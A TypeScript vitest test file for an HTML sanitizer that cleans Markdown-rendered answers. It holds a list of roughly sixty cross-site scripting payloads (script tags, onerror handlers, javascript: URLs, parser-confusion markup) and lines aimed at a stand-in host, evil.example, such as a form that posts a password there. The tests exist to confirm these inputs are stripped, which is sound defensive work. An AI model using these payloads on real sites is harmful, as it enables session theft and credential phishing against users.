import { Marked } from 'marked'
import { describe, expect, test } from 'vitest'
import { sanitizeAnswer } from './sanitize-answer.ts'

/** Vectors from OWASP's and PortSwigger's lists, and inputs that sanitizers parse differently from browsers. */
const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>OK</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; * { display: none }</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<p onclick=alert(1) onmouseover=alert(1) id=root class=hidden name=body>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="/" onfocus=alert(1) autofocus tabindex=1 ping="https://evil.example">x</a>',
  '<a href=/ target=_top rel=opener style="position:fixed;inset:0">x</a>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php echo 1 ?><img src=x onerror=alert(1)>',
  '<<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<a\u000chref="javascript:alert(1)">x</a>',
  '<x onclick=alert(1)>x</x>',
  '"><img src=x onerror=alert(1)>',
  '<table background="javascript:alert(1)"><td background="x">x</td></table>',
  '[x](javascript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '![x](https://evil.example/x.png "onerror=alert(1)")',
  '[x]: javascript:alert(1)\n\n[x]',
  '`</code><script>alert(1)</script>`',
  '```html"onload=alert(1)\n<script>alert(1)</script>\n```',
]

const markdown = new Marked({ gfm: true })

describe('forbidden content of an answer', () => {
  test.each(hostile)('%j', (text) => {
    for (const html of [text, markdown.parse(text, { async: false })]) {
      const clean = sanitizeAnswer(html)
      const tags = [...clean.matchAll(/<\/?([a-z0-9]+)([^>]*)>/gi)]
      for (const [tag, name = '', attributes = ''] of tags) {
        expect(name, tag).toMatch(
          /^(p|br|hr|strong|b|em|i|del|code|kbd|pre|blockquote|[uo]l|li|t(able|head|body|r|h|d)|h[34]|a)$/,
        )
        expect(attributes.replace(/ ?\/$/, ''), tag).toMatch(
          /^( href="(\/|#|https?:|mailto:)[^"]*")?( target="_blank" rel="noopener noreferrer")?$/,
        )
      }
      // A remaining tag must match the pattern above.
      expect(clean.match(/<(?!\/?[a-z0-9]+[^<>]*>)/i)).toBeNull()
    }
  })
})

describe('links', () => {
  test.each([
    ['/vip', '/vip'],
    ['/faq#join-link', '/faq#join-link'],
    ['#join-link', '#join-link'],
    ['/servers?modes=dm', '/servers?modes=dm'],
  ])('%s stays within the portal', (href, expected) =>
    expect(sanitizeAnswer(`<a href="${href}" target="_blank" rel="opener">x</a>`)).toBe(`<a href="${expected}">x</a>`),
  )

  test.each([
    ['https://example.com/a?b=1', 'https://example.com/a?b=1'],
    ['http://example.com', 'http://example.com/'],
    ['//example.com/a', 'https://example.com/a'],
    ['/\\example.com/a', 'https://example.com/a'],
    ['\\\\example.com', 'https://example.com/'],
    ['https://user:pass@example.com', 'https://user:pass@example.com/'],
  ])('%s leaves it, in a tab of its own', (href, expected) =>
    expect(sanitizeAnswer(`<a href="${href}" target="_self">x</a>`)).toBe(
      `<a href="${expected}" target="_blank" rel="noopener noreferrer">x</a>`,
    ),
  )

  test('may write a mail', () =>
    expect(sanitizeAnswer('<a href="mailto:a@example.com">x</a>')).toBe('<a href="mailto:a@example.com">x</a>'))

  test('without a valid address are text', () => expect(sanitizeAnswer('<a href="http://[">x</a>')).toBe('<a>x</a>'))
})

test('allowed markup is kept', () => {
  const html = '<p>a <strong>b</strong><br />c</p>\n<ol start="3">\n<li><code>d</code></li>\n</ol>'
  expect(sanitizeAnswer(html)).toBe(html)
  expect(sanitizeAnswer('<h1>a</h1><h2 id="a">b</h2><h5>c</h5>')).toBe('<h3>a</h3><h3>b</h3><h4>c</h4>')
})
